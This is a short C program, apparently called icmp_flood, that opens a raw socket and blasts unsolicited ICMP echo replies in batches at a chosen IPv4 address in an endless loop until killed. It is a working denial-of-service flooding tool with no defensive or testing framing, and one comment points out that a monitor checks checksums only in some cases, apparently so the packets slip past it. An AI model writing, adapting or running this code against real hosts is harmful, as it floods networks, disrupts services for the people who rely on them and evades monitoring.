/* Echo replies that nobody asked for, to the address given, as fast as one core can; until killed. Needs CAP_NET_RAW. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>

enum { AT_ONCE = 64, BYTES = 64 };

int main(int count, char **words) {
    static char reply[BYTES]; /* type 0; the monitor looks at the checksum only where it waits for the identifier */
    static struct mmsghdr batch[AT_ONCE];
    struct sockaddr_in to = {.sin_family = AF_INET};
    struct iovec piece = {reply, BYTES};
    int sock = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (count != 2 || !inet_aton(words[1], &to.sin_addr) || sock < 0) {
        perror("icmp_flood ADDRESS");
        return 2;
    }
    for (int each = 0; each < AT_ONCE; each++)
        batch[each].msg_hdr = (struct msghdr){&to, sizeof to, &piece, 1, NULL, 0, 0};
    for (;;)
        sendmmsg(sock, batch, AT_ONCE, 0);
}
